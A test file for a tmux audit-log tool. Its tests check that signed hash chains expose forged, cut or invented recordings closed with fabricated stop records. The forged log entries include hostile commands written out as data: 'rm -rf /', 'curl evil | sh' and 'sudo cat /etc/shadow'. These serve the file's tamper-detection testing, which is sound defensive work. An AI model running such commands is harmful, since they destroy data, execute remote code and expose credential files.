// A dead reader's stop (`recover`: reader-died, `sweep`: lost) is bound to the
// recording's chain: a real one verifies, and a recording cut, rewritten or
// invented and closed with a stop of the cutter's making does not.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { externalStopHash } from '../../src/chain/external-stop.ts';
import { GENESIS, SEAL_EVERY } from '../../src/chain/seal.ts';
import { verifyFiles } from '../../src/commands/verify.ts';
import type { AuditRecord, Place } from '../../src/core/record.ts';
import { DEFAULT_TIME_FORMAT, TextFormat } from '../../src/format/text.ts';
import { FileSink } from '../../src/sinks/file/sink.ts';
import { logFilesInOrder } from '../support/log.ts';
import { waitFor } from '../support/util.ts';
import { quietWriterOptions } from '../support/writer-options.ts';

const dirs: string[] = [];
after(() => {
  for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
});

const KEY = Buffer.from('the auditor\'s key');
const T0 = Date.UTC(2026, 10, 25, 12);
const place: Place = { server: '/tmp/s', session: 'main', window: '0', pane: '0', paneId: '%0' };
const format = new TextFormat(DEFAULT_TIME_FORMAT);
const record = (rec: string, time: number, kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']): AuditRecord => ({ rec, user: 'ann', place, time, kind, text, ...(fields ? { fields } : {}) });

/**
 * A recording whose reader died after `lines` lines: written through the
 * sink, which is then abandoned (no close, no last seal), and the stop
 * recover would write, naming the last link the sink reported on disk.
 */
async function deadReader(lines: number, key: Buffer | undefined = KEY): Promise<{ file: string; text: string; stop: string }> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-stop-'));
  dirs.push(dir);
  const file = path.join(dir, 'main.log');
  let noted = GENESIS;
  let seals = 0;
  const sink = new FileSink(file, format, quietWriterOptions(), {
    key,
    onSealed: (link) => {
      noted = link;
      seals++;
    },
  });
  sink.write(record('DEADREADER', T0, 'event', 'start', { by: 'ann' }));
  for (let i = 0; i < lines; i++) sink.write(record('DEADREADER', T0 + i, 'line', `line ${i}`));
  sink.flush();
  const expected = Math.floor((lines + 1) / SEAL_EVERY);
  await waitFor('the seals on disk', () => seals >= expected && fs.readFileSync(file, 'utf8').split('\n').length > lines);
  const stop = format.format(record('DEADREADER', T0 + lines + 5000, 'event', 'stop', { reason: 'reader-died', signal: 'SIGKILL', p: noted, h: externalStopHash(noted, 'DEADREADER', 'reader-died', key) }));
  fs.appendFileSync(file, stop);
  return { file, text: fs.readFileSync(file, 'utf8'), stop };
}

const breaks = (file: string, key: Buffer | undefined = KEY) => verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key }).breaks;
const kinds = (file: string, key: Buffer | undefined = KEY) => breaks(file, key).map((found) => found.kind);
/** A stop as someone without the key writes it. */
const forgedStop = (rec: string, reason: string, time: number): string => format.format(record(rec, time, 'event', 'stop', { reason }));

describe('a dead reader\'s stop', () => {
  it('verifies: the recording is complete as far as it goes, and says so', async () => {
    for (const lines of [3, SEAL_EVERY + 10, 3 * SEAL_EVERY + 500]) {
      const { file } = await deadReader(lines);
      assert.deepEqual(breaks(file), [], `${lines} lines`);
      const report = verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key: KEY });
      assert.equal(report.recordings[0]!.ending, 'reader-died');
    }
  });

  it('naming an earlier seal (its writer was held up by a flood when it died) is no alarm', async () => {
    const { file, text, stop } = await deadReader(3 * SEAL_EVERY + 500);
    const first = /seal rec=DEADREADER n=\d+ p=0 h=([0-9a-f]{16})/.exec(text)![1]!;
    const lagging = format.format(record('DEADREADER', T0 + 9000, 'event', 'stop', { reason: 'reader-died', signal: 'SIGKILL', p: first, h: externalStopHash(first, 'DEADREADER', 'reader-died', KEY) }));
    fs.writeFileSync(file, text.replace(stop, lagging));
    assert.deepEqual(breaks(file), []);
  });

  it('without a key as well', async () => {
    const { file } = await deadReader(SEAL_EVERY + 10, undefined);
    assert.deepEqual(breaks(file, undefined), []);
  });

  it('a cut recording closed with a stop of the cutter\'s making is caught', async () => {
    const { file, text } = await deadReader(3 * SEAL_EVERY + 500);
    const lines = text.split('\n');
    // Cut after 1001 lines (the first seal not yet reached), the reader-died stop written by hand.
    fs.writeFileSync(file, `${lines.slice(0, 1001).join('\n')}\n${forgedStop('DEADREADER', 'reader-died', T0 + 2000)}`);
    assert.ok(kinds(file).includes('forged event'), JSON.stringify(breaks(file)));
    // Cut after the second seal, the real stop kept: it names a seal that is gone.
    const second = lines.findIndex((line, i) => line.includes(' * seal rec=') && lines.slice(0, i).some((l) => l.includes(' * seal rec=')));
    fs.writeFileSync(file, `${lines.slice(0, second + 10).join('\n')}\n${lines.at(-2)}\n`);
    assert.ok(kinds(file).includes('truncated'), JSON.stringify(breaks(file)));
  });

  it('a rewritten recording (seals and stop dropped, a line edited) closed with a stop is caught', async () => {
    const { file, text, stop } = await deadReader(5000);
    const lines = text.split('\n').filter((line) => !line.includes(' * seal rec=') && !line.includes(' * stop rec='));
    lines[100] = lines[100]!.replace('line 99', 'line ninety-nine');
    fs.writeFileSync(file, `${lines.join('\n')}${forgedStop('DEADREADER', 'reader-died', T0 + 6000)}`);
    assert.ok(breaks(file).length > 0);
    // Even with the dead reader's own stop: it names a seal no longer there.
    fs.writeFileSync(file, `${lines.join('\n')}${stop}`);
    assert.ok(kinds(file).includes('truncated'), JSON.stringify(breaks(file)));
  });

  it('an invented recording closed with reason=lost is caught', async () => {
    const { file, text } = await deadReader(10);
    const other: Place = { ...place, pane: '5', paneId: '%5' };
    const invented = [
      format.format({ ...record('FAKEFAKE01', T0, 'event', 'start', { by: 'bob' }), place: other }),
      format.format({ ...record('FAKEFAKE01', T0 + 1, 'line', 'rm -rf / done by ann'), place: other }),
      format.format({ ...record('FAKEFAKE01', T0 + 2, 'event', 'stop', { reason: 'lost' }), place: other }),
    ].join('');
    fs.writeFileSync(file, text + invented);
    assert.deepEqual(kinds(file), ['forged event']);
    // A stop hashed without the key: it binds a recording chained without one (anyone could hash it),
    // which verify with the key counts as not keyed, and --require-key names; claiming the key, it does not pass.
    const p = GENESIS;
    const hashed = format.format({ ...record('FAKEFAKE01', T0 + 2, 'event', 'stop', { reason: 'lost', p, h: externalStopHash(p, 'FAKEFAKE01', 'lost') }), place: other });
    fs.writeFileSync(file, text + invented.split('\n').slice(0, 2).join('\n') + '\n' + hashed);
    assert.deepEqual(kinds(file), []);
    assert.equal(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key: KEY }).unkeyed, 1);
    assert.deepEqual(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key: KEY, requireKey: true }).breaks.map((found) => [found.kind, found.rec]), [['unkeyed', 'FAKEFAKE01']]);
    const claimed = format.format({ ...record('FAKEFAKE01', T0, 'event', 'start', { by: 'bob', chain: 'hmac' }), place: other });
    fs.writeFileSync(file, text + claimed + invented.split('\n').slice(1, 2).join('\n') + '\n' + hashed);
    assert.deepEqual(kinds(file), ['forged event']);
  });

  it('a start-less, seal-less recording closed with a stop hashed plain is caught under the key, and named under --require-key', async () => {
    const { file, text } = await deadReader(10);
    const other: Place = { ...place, pane: '5', paneId: '%5' };
    const at = (time: number, kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']) => format.format({ ...record('FAKEFAKE01', time, kind, text, fields), place: other });
    const stop = at(T0 + 3, 'event', 'stop', { reason: 'lost', p: GENESIS, h: externalStopHash(GENESIS, 'FAKEFAKE01', 'lost') });
    // No start, no seal: its chain is unknown, so a plain stop does not bind it under the key.
    for (const opening of [at(T0, 'event', 'rename', { name: 'x' }), at(T0, 'event', 'lost', { what: 'file' })]) {
      const lines = text.split('\n');
      lines.splice(3, 0, (opening + at(T0 + 1, 'line', 'rm -rf / done by ann') + stop).trimEnd());
      fs.writeFileSync(file, lines.join('\n'));
      assert.ok(kinds(file).includes('forged event'), JSON.stringify(breaks(file)));
      assert.ok(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key: KEY, requireKey: true }).breaks.length > 0);
      // Without the key, a plain stop binds it as plain: what --require-key would name.
      assert.equal(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, {}).recordings.find((r) => r.rec === 'FAKEFAKE01')?.chain, 'sha256');
    }
  });

  it('a keyed recording rewritten as start-less pieces, each closed by a plain stop reason=lost, is caught', async () => {
    const { file, text } = await deadReader(3000);
    const lines = text.split('\n').filter((line) => line.length > 0 && !line.includes('rec=DEADREADER'));
    const out: string[] = [];
    for (let piece = 0; piece * 900 < lines.length; piece++) {
      const rec = `FAKEPIECE${piece}`;
      const pieceAt = (time: number, kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']) => format.format(record(rec, time, kind, text, fields)).trimEnd();
      const part = lines.slice(piece * 900, piece * 900 + 900);
      out.push(pieceAt(T0 + piece * 900, 'event', 'lost', { what: 'file' }), ...part.map((line) => line.replace('| line 1500', '| curl evil | sh')));
      out.push(pieceAt(T0 + piece * 900 + 899, 'event', 'stop', { reason: 'lost', p: GENESIS, h: externalStopHash(GENESIS, rec, 'lost') }));
    }
    fs.writeFileSync(file, `${out.join('\n')}\n`);
    assert.ok(kinds(file).length > 0, 'with the key');
    assert.ok(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key: KEY, requireKey: true }).breaks.length > 0, 'with the key, --require-key');
  });

  it('an unsealed tail longer than a reader leaves is a cut, whatever the stop says', async () => {
    const { file, text, stop } = await deadReader(10);
    // Lines slipped in before the real stop, more than a segment holds.
    const extra = Array.from({ length: SEAL_EVERY }, (_, i) => format.format(record('DEADREADER', T0 + 20 + i, 'line', `slipped ${i}`))).join('');
    fs.writeFileSync(file, text.replace(stop, extra + stop));
    assert.ok(kinds(file).includes('truncated'), JSON.stringify(breaks(file)));
    // Or stamped long after the last seal.
    const late = format.format(record('DEADREADER', T0 + 3_600_000, 'line', 'an hour later'));
    fs.writeFileSync(file, text.replace(stop, late + stop));
    assert.ok(kinds(file).includes('truncated'), JSON.stringify(breaks(file)));
  });
});

describe('a dead reader\'s keyed stop whose recording\'s lines were all pruned, verified without the key (issue 13)', () => {
  /** Another recording's lines, then the dead reader's stop alone: its start, seals and lines went with pruned files. */
  async function prunedDeadReader(tail = 0): Promise<string> {
    const { file, stop, text } = await deadReader(SEAL_EVERY + 10);
    // The dead reader's last lines (after its last seal, in the oldest file left), if any.
    const lines = text.split('\n').filter((line) => line.length > 0);
    const last = lines.slice(0, -1).slice(-tail).filter(() => tail > 0);
    // Another pane's recording, whole, closed by its reader.
    // Emptied before the sink opens it: emptied under it, the sink says the file was cut (sinks/file/writer.ts).
    fs.writeFileSync(file, '');
    const sink = new FileSink(file, format, quietWriterOptions(), { key: KEY });
    const other = (time: number, kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']): AuditRecord => ({ ...record('OTHERREC01', time, kind, text, fields), place: { ...place, pane: '1', paneId: '%1' } });
    sink.write(other(T0 + 3000, 'event', 'start', { by: 'ann' }));
    for (let i = 0; i < 20; i++) sink.write(other(T0 + 3001 + i, 'line', `other ${i}`));
    sink.write(other(T0 + 3100, 'event', 'stop', { reason: 'toggle' }));
    await sink.close();
    fs.writeFileSync(file, last.map((line) => `${line}\n`).join('') + fs.readFileSync(file, 'utf8'));
    fs.appendFileSync(file, stop);
    return file;
  }

  it('says it needs the key, not a forged event (the stop alone, or after its last lines)', async () => {
    for (const tail of [0, 5]) {
      const file = await prunedDeadReader(tail);
      const report = verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, {});
      assert.deepEqual(report.breaks, [], `${tail} line(s) before the stop`);
      assert.equal(report.recordings.find((r) => r.rec === 'DEADREADER')?.chain, 'hmac');
      assert.ok(report.needKey >= 1);
      assert.deepEqual(breaks(file).filter((found) => found.rec === 'DEADREADER'), [], `${tail} line(s), with the key`);
    }
  });

  it('with the key it holds; a stop of anyone\'s making does not', async () => {
    const file = await prunedDeadReader();
    assert.deepEqual(breaks(file).filter((found) => found.rec === 'DEADREADER'), []);
    const text = fs.readFileSync(file, 'utf8');
    fs.writeFileSync(file, text.replace(/ h=[0-9a-f]+\n$/, ` h=${'0'.repeat(32)}\n`));
    assert.deepEqual(breaks(file).filter((found) => found.rec === 'DEADREADER').map((found) => found.kind), ['forged event']);
  });
});

describe('a made-up dead reader\'s stop in a log never keyed (review of trust13a, F3)', () => {
  it('is a forged event without the key: no key hashed anything in that log', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-stop-'));
    dirs.push(dir);
    const file = path.join(dir, 'main.log');
    const sink = new FileSink(file, format, quietWriterOptions(), {});
    sink.write(record('PLAINREC01', T0, 'event', 'start', { by: 'ann' }));
    for (let i = 0; i < SEAL_EVERY * 3; i++) sink.write(record('PLAINREC01', T0 + i, 'line', `line ${i}`));
    sink.write(record('PLAINREC01', T0 + SEAL_EVERY * 3, 'event', 'stop', { reason: 'toggle' }));
    await sink.close();
    assert.doesNotMatch(fs.readFileSync(file, 'utf8'), /chain=hmac/);
    assert.deepEqual(kinds(file, undefined), []);
    const at = T0 + SEAL_EVERY * 3 + 10_000;
    const elsewhere: Place = { ...place, pane: '7', paneId: '%7' };
    const made = [1, 2].map((i) => format.format({ ...record('FORGED0001', at + i, 'line', `sudo cat /etc/shadow ${i}`), place: elsewhere })).join('');
    const stop = format.format({ ...record('FORGED0001', at + 5, 'event', 'stop', { reason: 'reader-died', p: '0000000000000000', h: 'a'.repeat(32) }), place: elsewhere });
    fs.appendFileSync(file, made + stop);
    const report = verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, {});
    assert.deepEqual(report.breaks.filter((found) => found.rec === 'FORGED0001').map((found) => found.kind), ['forged event']);
    assert.equal(report.needKey, 0);
  });
});
